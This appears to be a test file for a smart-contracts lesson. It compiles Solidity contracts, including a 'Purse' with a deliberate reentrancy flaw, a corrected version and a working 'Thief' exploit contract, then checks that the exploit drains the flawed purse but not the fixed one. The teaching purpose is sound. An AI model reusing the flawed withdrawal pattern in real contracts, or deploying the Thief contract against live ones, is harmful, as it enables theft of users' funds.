import { afterAll, expect, test } from 'vitest';
import type { RunPlan, RunStep } from '@/kinds/labs/run';
import { SolidityPool } from '@/server/solidity/pool';
import { lesson } from './lesson';

const { says } = lesson('smart-contracts');
const pool = new SolidityPool({ mostMs: 60_000 });
afterAll(() => pool.stop());

const head = '// SPDX-License-Identifier: MIT\npragma solidity 0.8.37;\n\n';
const register = `${head}contract PledgeRegister {
  mapping(bytes32 => address)
    public pledgedTo;
  uint256 public pledges;

  event Pledged(
    bytes32 indexed claim,
    address indexed lender
  );

  function pledge(bytes32 claim)
    external
  {
    require(
      pledgedTo[claim] == address(0),
      "already pledged"
    );
    pledgedTo[claim] = msg.sender;
    pledges += 1;
    emit Pledged(claim, msg.sender);
  }
}
`;
const take = `  function take() external {
    uint256 sum = owed[msg.sender];
    (bool sent, ) =
      msg.sender.call{value: sum}("");
    require(sent, "not sent");
    owed[msg.sender] = 0; // too late
  }
`;
const mendedTake = `  function take() external {
    uint256 sum = owed[msg.sender];
    owed[msg.sender] = 0;
    (bool sent, ) =
      msg.sender.call{value: sum}("");
    require(sent, "not sent");
  }
`;
const purseWith = (function_: string): string => `${head}contract Purse {
  mapping(address => uint256)
    public owed;

  function put() external payable {
    owed[msg.sender] += msg.value;
  }

${function_}}
`;
const purse = purseWith(take);
const mendedPurse = purseWith(mendedTake);

const thief = `// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;
interface IPurse {
    function put() external payable;
    function take() external;
}
contract Thief {
    IPurse private immutable purse;
    uint256 public times;
    constructor(address purse_) payable {
        purse = IPurse(purse_);
        purse.put{value: msg.value}();
    }
    function start() external {
        purse.take();
    }
    receive() external payable {
        times += 1;
        if (times < 10) purse.take();
    }
}`;

const claim = '0xc63b73ad4c7fea273fb1f478ac83cba4dc4762ddfdd6bd67fcdba3d10ab81802';
const pledge = (from: string, reverts?: true): RunStep => ({
  call: 'pledge(bytes32)',
  on: 'register',
  from,
  args: [claim],
  expect: reverts ? { reverts } : { event: { name: 'Pledged', args: [claim, `@${from}`] } },
});
const emptied = (unit: string, left: number, taken: number, owed: number): RunPlan['tests'][number] => ({
  name: unit,
  title: unit,
  steps: [
    { deploy: `${unit}:Purse.sol:Purse`, as: 'purse', from: 'bankA' },
    { call: 'put()', on: 'purse', from: 'bankB', value: '90' },
    {
      deploy: 'thief:Thief.sol:Thief',
      as: 'thief',
      takes: 'address',
      args: ['@purse'],
      value: '10',
      from: 'nobody',
    },
    { call: 'start()', on: 'thief', from: 'nobody' },
    {
      check: 'how often',
      sum: [{ call: 'times()(uint256)', on: 'thief' }],
      is: 'equal',
      to: '10',
    },
    { check: 'what is left', sum: [{ balanceOf: 'purse' }], is: 'equal', to: String(left) },
    { check: 'what was taken', sum: [{ balanceOf: 'thief' }], is: 'equal', to: String(taken) },
    {
      check: 'what is owed',
      sum: [{ call: 'owed(address)(uint256)', on: 'purse', args: ['@bankB'] }],
      is: 'equal',
      to: String(owed),
    },
  ],
});

test('the contracts compile and do what the lesson says', async () => {
  const report = await pool.run(
    {
      units: {
        register: { files: { 'Register.sol': register } },
        purse: { files: { 'Purse.sol': purse } },
        mended: { files: { 'Purse.sol': mendedPurse } },
        thief: { files: { 'Thief.sol': thief } },
      },
      accounts: { bankA: '1000', bankB: '1000', nobody: '1000' },
      tests: [
        {
          name: 'register',
          title: 'The second pledge is refused',
          steps: [
            { deploy: 'register:Register.sol:PledgeRegister', as: 'register', from: 'bankA' },
            pledge('bankA'),
            pledge('bankB', true),
            {
              call: 'pledgedTo(bytes32)(address)',
              on: 'register',
              from: 'bankB',
              args: [claim],
              expect: { returns: ['@bankA'] },
            },
            {
              check: 'pledges',
              sum: [{ call: 'pledges()(uint256)', on: 'register' }],
              is: 'equal',
              to: '1',
            },
          ],
        },
        emptied('purse', 0, 100, 90),
        emptied('mended', 90, 10, 90),
      ],
    },
    'the lesson',
  );
  if (report.outcome !== 'ran') throw new Error(JSON.stringify(report));
  for (const { why } of report.tests) expect(why).toBeNull();
  const used = (call: string): string =>
    report.gas.find((one) => one.call === call)?.most.toLocaleString('en') ?? 'nothing';
  says(
    `\`\`\`solidity\n${register}\`\`\``,
    `\`\`\`solidity\n${purse}\`\`\``,
    `\`\`\`solidity\n${mendedTake}\`\`\``,
    `took ${used('PledgeRegister')} gas and the first call ${used('PledgeRegister.pledge')}.`,
  );
  says('The purse holds 100. Others have put in 90, a thief 10.', `pledge(${claim.slice(2, 10)}...)`);
}, 60_000);
